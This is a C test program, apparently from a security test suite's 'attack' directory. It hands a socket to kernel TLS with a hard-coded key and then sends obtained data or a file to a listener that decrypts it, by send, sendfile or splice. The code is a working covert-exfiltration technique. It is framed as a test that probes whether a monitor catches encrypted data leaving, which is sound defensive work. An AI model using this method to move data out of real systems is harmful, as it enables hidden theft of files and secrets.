// SPDX-License-Identifier: GPL-2.0
/*
 * tls.c - data that the kernel encrypts, on a connection that it took over
 * before the data was obtained
 *
 * usage: tls send|sendfile|splice ADDRESS
 *
 * The far end is tests/vm/lib/untls.py, which knows the key.
 */
#include <linux/tls.h>
#include <sys/sendfile.h>

#include "tests/vm/attack/attack.h"

#define PORT 9443
#define AMOUNT 1200

static int take_over(const char *text)
{
	struct tls12_crypto_info_aes_gcm_128 keys = {
		.info = { .version = TLS_1_2_VERSION, .cipher_type = TLS_CIPHER_AES_GCM_128 },
		.key = "0123456789abcde",
		.salt = "abc",
	};
	int fd = attack_connected_port(text, PORT);

	attack_do("ulp", setsockopt(fd, IPPROTO_TCP, TCP_ULP, "tls", sizeof("tls")));
	attack_do("keys", setsockopt(fd, SOL_TLS, TLS_TX, &keys, sizeof(keys)));
	return fd;
}

int main(int argc, char **argv)
{
	int fd, file, ends[2];

	if (argc != 3)
		return 2;
	fd = take_over(argv[2]);
	if (!strcmp(argv[1], "send")) {
		attack_obtain();
		attack_do("send", send(fd, data.bytes, AMOUNT, MSG_NOSIGNAL));
	} else {
		file = attack_do("open", open(getenv("FILE"), O_RDONLY));
		attack_do("pipe", pipe(ends));
		if (!strcmp(argv[1], "sendfile")) {
			attack_do("sendfile", sendfile(fd, file, NULL, AMOUNT));
		} else {
			attack_do("splice", splice(file, NULL, ends[1], NULL, AMOUNT, 0));
			attack_do("splice", splice(ends[0], NULL, fd, NULL, AMOUNT, 0));
		}
	}
	attack_answer(fd);
	return attack_status;
}
